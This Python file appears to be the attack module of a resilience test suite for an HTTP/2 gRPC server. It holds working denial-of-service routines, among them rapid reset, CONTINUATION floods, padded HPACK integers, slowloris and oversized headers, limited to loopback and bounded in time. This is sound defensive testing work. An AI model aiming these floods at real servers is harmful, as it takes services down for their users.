#!/usr/bin/python3
"""The hostile-client suite's attacks, one per process.

  attacks.py NAME --port PORT --seconds S [attack options]

runs attack NAME against 127.0.0.1:PORT (loopback only) for at most S seconds
(each loop is bounded in count and in time), then closes every connection it
opened and prints one JSON line: what it sent and what the server answered.
hostile_test.py starts it, measures the server meanwhile, and kills it if it
overruns. Attacks:

  idle_flood          TCP connections that send nothing, held open
  rapid_reset         HTTP/2 HEADERS then RST_STREAM at once, at a capped rate
  slow_bodies         gRPC messages declaring a large size, partly sent, held open
  huge_header         one header literal of several MiB (HEADERS + CONTINUATION)
  padded_varint       an HPACK integer padded with 0x80 bytes to several MiB
  continuation_flood  CONTINUATION frames that never end the header block
  metrics_slowloris   HTTP/1.1 requests to /metrics whose headers never end
  metrics_huge_headers HTTP/1.1 requests to /metrics with a header of several MiB
"""
import argparse
import ipaddress
import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

from h2frames import (CANCEL, CONTINUATION, END_HEADERS, HEADERS, MAX_FRAME, RST_STREAM,
                      RawConnection, check_loopback, frame, grpc_request_headers, hpack_int,
                      literal_header)

MIB = 1 << 20


def raise_open_file_limit(wanted):
    """The soft RLIMIT_NOFILE raised towards `wanted` (at most the hard
    limit); returns the soft limit in force."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        soft = min(wanted, hard) if hard != resource.RLIM_INFINITY else wanted
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft


def idle_flood(a):
    """Opens a.connections TCP connections (non-blocking connects, waited for
    at most 10 s), sends nothing, and holds them until a.seconds have passed
    since the start, watching which ones the server accepted (it wrote to
    them: gRPC sends its SETTINGS) and which ones it closed."""
    end = time.monotonic() + a.seconds
    limit = raise_open_file_limit(a.connections + 64)
    count = min(a.connections, limit - 64)
    sockets = []
    for i in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if a.source:  # spread over a.sources loopback addresses from a.source on
            base = ipaddress.ip_address(a.source)
            s.bind((str(base + i % a.sources), 0))
        s.setblocking(False)
        s.connect_ex((a.host, a.port))
        sockets.append(s)
    poller = select.poll()
    by_fd = {s.fileno(): s for s in sockets}
    for fd in by_fd:
        poller.register(fd, select.POLLOUT)
    connected, failed = set(), 0
    connect_deadline = min(end, time.monotonic() + 10)
    while len(connected) + failed < count and time.monotonic() < connect_deadline:
        for fd, event in poller.poll(100):
            poller.unregister(fd)
            if by_fd[fd].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                connected.add(fd)
                poller.register(fd, select.POLLIN)
            else:
                failed += 1
    connected_at = time.monotonic()
    accepted, closed = set(), set()
    while time.monotonic() < end:
        for fd, event in poller.poll(100):
            try:
                data = by_fd[fd].recv(1 << 16)
            except OSError:
                data = b""
            if data:
                accepted.add(fd)
            else:
                closed.add(fd)
                poller.unregister(fd)
    for s in sockets:
        s.close()
    return {"opened": count, "connected": len(connected), "connect_failed": failed,
            "connect_seconds": round(connected_at - (end - a.seconds), 2),
            "written_to_by_server": len(accepted), "closed_by_server": len(closed)}


def rapid_reset(a):
    """a.connections connections, each opening streams (a request's HEADERS)
    and cancelling each at once (RST_STREAM CANCEL), in batches of 50, at
    a.rate streams per second in all, until a.seconds have passed. A
    connection the server closes is replaced (at most 100 times)."""
    end = time.monotonic() + a.seconds
    block = grpc_request_headers(f"{a.host}:{a.port}")
    headers = frame(HEADERS, END_HEADERS, 1, block)
    reset = frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
    batch = 50
    one = headers + reset
    per_connection = a.rate / a.connections
    totals = {"streams": 0, "send_stalls": 0, "reconnects": 0, "goaways": 0, "server_resets": 0,
              "connect_errors": 0}
    lock = threading.Lock()

    def attack_one():
        template = bytearray(one * batch)
        offsets = [(j * len(one) + 5, j * len(one) + len(headers) + 5) for j in range(batch)]
        conn, next_id, t_next, reconnects = None, 1, time.monotonic(), 0
        streams = stalls = 0
        try:
            while time.monotonic() < end:
                if conn is None or conn.closed.is_set() or next_id > 2**31 - 2 * batch:
                    if conn is not None:
                        with lock:
                            totals["goaways"] += conn.goaway is not None
                            totals["server_resets"] += conn.resets
                        conn.close()
                        conn = None
                        reconnects += 1
                        if reconnects > 100:
                            return
                    try:
                        conn = RawConnection(a.host, a.port, send_timeout=1.0, connect_timeout=2.0,
                                             source=a.source)
                    except OSError:
                        with lock:
                            totals["connect_errors"] += 1
                        time.sleep(0.1)
                        continue
                    next_id = 1
                for j, (h, r) in enumerate(offsets):
                    struct.pack_into(">I", template, h, next_id + 2 * j)
                    struct.pack_into(">I", template, r, next_id + 2 * j)
                try:
                    conn.send(template)
                    streams += batch
                    next_id += 2 * batch
                except socket.timeout:
                    stalls += 1  # the server has not read for a second
                except OSError:
                    conn.closed.set()  # the server closed the connection: a new one
                    continue
                t_next += batch / per_connection
                now = time.monotonic()
                if t_next > now:
                    time.sleep(min(t_next - now, end - now) if end > now else 0)
                elif now - t_next > 1.0:
                    t_next = now  # fell behind: keep the rate, do not burst
        finally:
            with lock:
                totals["streams"] += streams
                totals["send_stalls"] += stalls
                totals["reconnects"] += reconnects
                if conn is not None:
                    totals["goaways"] += conn.goaway is not None
                    totals["server_resets"] += conn.resets
                    conn.close()

    threads = [threading.Thread(target=attack_one, daemon=True) for _ in range(a.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=max(0.0, end - time.monotonic()) + 10)
    totals["streams_per_second"] = round(totals["streams"] / a.seconds)
    return totals


def slow_bodies(a):
    """a.streams calls (a.streams_per_connection per connection, python3-h2
    keeping HTTP/2 flow control) each send a gRPC message prefix declaring
    a.declared_mib MiB, then up to a.send_mib MiB of it within the windows
    the server grants, at most a.rate_mib MiB/s in all, and hold the calls
    open (never finishing the message) until a.seconds have passed. With
    a.token the calls carry "authorization: Bearer <a.token>" (a wrong one);
    with a.tls they go over TLS."""
    end = time.monotonic() + a.seconds
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    headers = [(":method", "POST"), (":scheme", "http"),
               (":path", "/attnserve.v1.AttentionService/Attend"),
               (":authority", f"{a.host}:{a.port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    if a.token:
        headers.append(("authorization", f"Bearer {a.token}"))
    prefix = b"\x00" + struct.pack(">I", a.declared_mib * MIB)
    filler = memoryview(bytes(MIB))
    target = a.send_mib * MIB
    conns, sent, answers = [], {}, {}
    summary = {"streams": 0, "bytes_sent": 0, "server_resets": 0, "goaways": 0,
               "closed_by_server": 0, "answered": answers}
    for c in range(-(-a.streams // a.streams_per_connection)):
        check_loopback(a.host)
        sock = socket.create_connection((a.host, a.port), timeout=5,
                                        source_address=(a.source, 0) if a.source else None)
        if a.tls:  # TLS with ALPN h2; the server's certificate is not checked
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            sock = context.wrap_socket(sock, server_hostname="localhost")
        sock.settimeout(5)
        conn = h2.connection.H2Connection(config=config)
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        streams = []
        for _ in range(min(a.streams_per_connection, a.streams - c * a.streams_per_connection)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers)
            conn.send_data(sid, prefix)
            streams.append(sid)
            sent[(c, sid)] = 0
        sock.sendall(conn.data_to_send())
        conns.append({"sock": sock, "conn": conn, "streams": streams, "open": True})
        summary["streams"] += len(streams)
    started = time.monotonic()
    while time.monotonic() < end and any(c["open"] for c in conns):
        readable, _, _ = select.select([c["sock"] for c in conns if c["open"]], [], [], 0.005)
        # TLS may hold decrypted bytes that select() does not see.
        readable += [c["sock"] for c in conns if c["open"] and isinstance(c["sock"], ssl.SSLSocket)
                     and c["sock"].pending() and c["sock"] not in readable]
        for c in conns:
            if c["sock"] in readable:
                _receive(c, summary, answers)
        # Bytes the rate cap allows now: a.rate_mib MiB/s since the start, less what went.
        budget_bytes = (time.monotonic() - started) * a.rate_mib * MIB - summary["bytes_sent"]
        for index, c in enumerate(conns):
            if not c["open"]:
                continue
            for sid in c["streams"]:
                if budget_bytes <= 0:
                    break
                left = target - sent[(index, sid)]
                if left <= 0:
                    continue
                try:
                    window = c["conn"].local_flow_control_window(sid)
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    continue
                n = int(min(left, window, budget_bytes, MIB))
                if n <= 0:
                    continue
                frame_size = c["conn"].max_outbound_frame_size
                try:
                    for offset in range(0, n, frame_size):
                        piece = min(frame_size, n - offset)
                        c["conn"].send_data(sid, filler[:piece])
                        sent[(index, sid)] += piece
                        summary["bytes_sent"] += piece
                        budget_bytes -= piece
                except (h2.exceptions.StreamClosedError, h2.exceptions.FlowControlError):
                    continue
                except h2.exceptions.ProtocolError:  # the connection ended (GOAWAY)
                    c["open"] = False
                    break
            try:
                c["sock"].sendall(c["conn"].data_to_send())
            except OSError:
                c["open"] = False
                summary["closed_by_server"] += 1
    summary["connections_ended_by_server"] = sum(not c["open"] for c in conns)
    for c in conns:
        c["sock"].close()
    summary["mib_sent"] = round(summary.pop("bytes_sent") / MIB, 1)
    summary["seconds_to_send"] = round(time.monotonic() - started, 1)
    return summary


def _receive(c, summary, answers):
    """Feeds one readable h2 connection's bytes to python3-h2 and records the
    server's answers (grpc-status of trailers-only responses, resets, GOAWAY)."""
    try:
        data = c["sock"].recv(1 << 16)
    except OSError:
        data = b""
    if not data:
        c["open"] = False
        summary["closed_by_server"] += 1
        return
    try:
        events = c["conn"].receive_data(data)
    except h2.exceptions.ProtocolError:
        c["open"] = False
        return
    for event in events:
        if isinstance(event, h2.events.StreamReset):
            summary["server_resets"] += 1
        elif isinstance(event, h2.events.ConnectionTerminated):
            summary["goaways"] += 1
        elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            fields = dict(event.headers)
            status = fields.get("grpc-status")
            if status is None and fields.get(":status", "200") != "200":
                status = f"http {fields[':status']}"  # refused by a proxy, not gRPC
            if status is not None:
                answers[status] = answers.get(status, 0) + 1


def _send_header_block(a, stream_frames, what):
    """Sends an attack's header frames on one connection until done or
    a.seconds pass, then waits for the server's answer until a.seconds pass
    (or the connection closes). Returns what was sent and seen."""
    end = time.monotonic() + a.seconds
    conn = RawConnection(a.host, a.port, send_timeout=1.0, source=a.source)
    sent_frames, stalls, started = 0, 0, time.monotonic()
    try:
        pending = None
        while time.monotonic() < end and not conn.closed.is_set():
            if pending is None:
                pending = next(stream_frames, None)
                if pending is None:
                    break
            try:
                conn.send(pending)
                sent_frames += 1
                pending = None
            except socket.timeout:
                stalls += 1  # the server has not read for a second
            except OSError:
                break  # the server closed the connection
        send_seconds = time.monotonic() - started
        # What the server does about it: RST_STREAM, GOAWAY or closing, or nothing.
        while time.monotonic() < end and not (conn.closed.is_set() or conn.resets or conn.goaway):
            time.sleep(0.02)
    finally:
        conn.close()
    return {"what": what, "frames_sent": sent_frames, "mib_sent": round(conn.bytes_out / MIB, 1),
            "send_seconds": round(send_seconds, 1), "send_stalls": stalls,
            "server_frames": conn.frames, "grpc_statuses": conn.grpc_statuses,
            "server_resets": conn.resets,
            "goaway": conn.goaway, "closed_by_server": conn.closed.is_set()}


def _block_frames(stream_id, first, filler_byte, filler_bytes, tail=b"", chunk=MAX_FRAME):
    """Yields the header block `first` + filler_bytes copies of filler_byte +
    `tail` as a HEADERS frame and CONTINUATION frames of `chunk` bytes (the
    last with END_HEADERS), never holding the whole block in memory."""
    total = len(first) + filler_bytes + len(tail)
    segments = ((0, len(first), first), (len(first), filler_bytes, None),
                (len(first) + filler_bytes, len(tail), tail))

    def take(start, n):  # bytes [start, start + n) of the block
        out = bytearray()
        for seg_start, seg_len, seg in segments:
            lo, hi = max(start, seg_start), min(start + n, seg_start + seg_len)
            if lo < hi:
                out += filler_byte * (hi - lo) if seg is None else seg[lo - seg_start:hi - seg_start]
        return bytes(out)

    position, kind = 0, HEADERS
    while position < total:
        n = min(chunk, total - position)
        piece = take(position, n)
        position += n
        yield frame(kind, END_HEADERS if position >= total else 0, stream_id, piece)
        kind = CONTINUATION


def huge_header(a):
    """One call whose header block holds a literal header of a.size_mib MiB."""
    size = int(a.size_mib * MIB)
    first = grpc_request_headers(f"{a.host}:{a.port}") + b"\x00" + hpack_int(6, 7) + b"x-huge" + \
        hpack_int(size, 7)
    return _send_header_block(a, _block_frames(1, first, b"a", size),
                              f"one {a.size_mib:g} MiB header literal")


def padded_varint(a):
    """One call whose header block holds a header name length written as an
    HPACK integer padded with a.size_mib MiB of 0x80 continuation bytes."""
    padding = int(a.size_mib * MIB)
    first = grpc_request_headers(f"{a.host}:{a.port}") + b"\x00" + b"\x7f"
    # 0x7f, then `padding` bytes 0x80, then 0x00: the name length 127 (RFC 7541
    # 5.1 allows the zero continuation bytes); then the name and an empty value.
    tail = b"\x00" + b"n" * 127 + hpack_int(0, 7)
    return _send_header_block(a, _block_frames(1, first, b"\x80", padding, tail=tail),
                              f"a {a.size_mib:g} MiB padded HPACK integer")


def continuation_flood(a):
    """One call's HEADERS, then CONTINUATION frames of 4 KiB, each full of
    small literal headers, a.size_mib MiB in all, never ending the block."""
    field = literal_header(b"x-c", 1, b"v")
    per_frame = field * (4096 // len(field))
    frames_total = int(a.size_mib * MIB) // len(per_frame)

    def frames():
        yield frame(HEADERS, 0, 1, grpc_request_headers(f"{a.host}:{a.port}"))
        for _ in range(frames_total):
            yield frame(CONTINUATION, 0, 1, per_frame)

    return _send_header_block(a, frames(),
                              f"{frames_total} CONTINUATION frames ({a.size_mib:g} MiB), no end")


def metrics_slowloris(a):
    """Keeps a.connections HTTP/1.1 requests to /metrics open whose header
    lines come one per connection every a.interval seconds and never end; a
    connection the server closes is opened again (as a real slowloris does;
    at most 50 reopenings per connection), until a.seconds have passed."""
    end = time.monotonic() + a.seconds
    raise_open_file_limit(a.connections + 64)
    check_loopback(a.host)
    budget = 50 * a.connections
    opened, refused, lines, closed, answered = 0, 0, 0, 0, 0

    def open_one():
        nonlocal opened, refused
        opened += 1
        try:
            s = socket.create_connection((a.host, a.port), timeout=2)
            s.sendall(f"GET /metrics HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n".encode())
            return s
        except OSError:
            refused += 1
            return None

    sockets = [s for s in (open_one() for _ in range(a.connections)) if s is not None]
    i = 0
    while time.monotonic() < end:
        i += 1
        alive = []
        for s in sockets:
            try:
                s.sendall(f"X-Slow-{i}: {i}\r\n".encode())
                lines += 1
                alive.append(s)
            except OSError:
                closed += 1
                s.close()
        sockets = alive
        readable, _, _ = select.select(sockets, [], [],
                                       max(0.0, min(a.interval, end - time.monotonic())))
        for s in readable:
            try:
                data = s.recv(1 << 16)
            except OSError:
                data = b""
            if data:
                answered += 1
            closed += 1
            s.close()
        sockets = [s for s in sockets if s not in readable]
        while len(sockets) < a.connections and opened < budget and time.monotonic() < end:
            s = open_one()
            if s is None:
                break
            sockets.append(s)
    for s in sockets:
        s.close()
    return {"connections": a.connections, "opened": opened, "refused": refused,
            "header_lines_sent": lines, "answered_by_server": answered,
            "closed_by_server": closed}


def metrics_huge_headers(a):
    """Up to a.requests HTTP/1.1 requests to /metrics, 4 at a time, each with
    one header line of a.size_mib MiB, until a.seconds have passed; records
    the server's status line (or that it closed or stopped reading)."""
    end = time.monotonic() + a.seconds
    size = int(a.size_mib * MIB)
    outcomes, lock, issued = {}, threading.Lock(), [0]

    def one():
        check_loopback(a.host)
        s = socket.create_connection((a.host, a.port), timeout=2)
        try:
            s.sendall(f"GET /metrics HTTP/1.1\r\nHost: {a.host}\r\nX-Huge: ".encode())
            chunk, left = b"a" * (64 << 10), size
            while left > 0 and time.monotonic() < end:
                s.sendall(chunk[:left])
                left -= len(chunk)
            s.sendall(b"\r\n\r\n")
            status = s.recv(1 << 16).split(b"\r\n", 1)[0].decode(errors="replace")
            return status or "closed"
        except socket.timeout:
            return "server stopped reading or answering"
        except OSError as e:
            return f"closed ({e.__class__.__name__})"
        finally:
            s.close()

    def worker():
        while time.monotonic() < end:
            with lock:
                if issued[0] >= a.requests:
                    return
                issued[0] += 1
            try:
                outcome = one()
            except OSError as e:
                outcome = f"connect failed ({e.__class__.__name__})"
            with lock:
                outcomes[outcome] = outcomes.get(outcome, 0) + 1

    threads = [threading.Thread(target=worker, daemon=True) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=max(0.0, end - time.monotonic()) + 5)
    return {"requests": issued[0], "outcomes": outcomes}


ATTACKS = {f.__name__: f for f in (idle_flood, rapid_reset, slow_bodies, huge_header,
                                   padded_varint, continuation_flood, metrics_slowloris,
                                   metrics_huge_headers)}


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--source", default="",
                        help="loopback address to connect from (e.g. 127.0.0.2, apart from the "
                             "good client's 127.0.0.1)")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--sources", type=int, default=1,
                        help="idle_flood: connect from this many addresses, --source and the next")
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--rate", type=float, default=4000, help="rapid_reset: streams/s in all")
    parser.add_argument("--streams", type=int, default=32)
    parser.add_argument("--streams_per_connection", type=int, default=8)
    parser.add_argument("--declared_mib", type=int, default=60)
    parser.add_argument("--send_mib", type=float, default=24)
    parser.add_argument("--rate_mib", type=float, default=256)
    parser.add_argument("--token", default="")
    parser.add_argument("--tls", action="store_true", help="slow_bodies: over TLS (ALPN h2)")
    parser.add_argument("--size_mib", type=float, default=4)
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--requests", type=int, default=16)
    a = parser.parse_args()
    check_loopback(a.host)
    if a.source:
        check_loopback(a.source)
        check_loopback(str(ipaddress.ip_address(a.source) + a.sources - 1))
    summary = ATTACKS[a.attack](a)
    print(json.dumps(summary), flush=True)


if __name__ == "__main__":
    sys.exit(main())
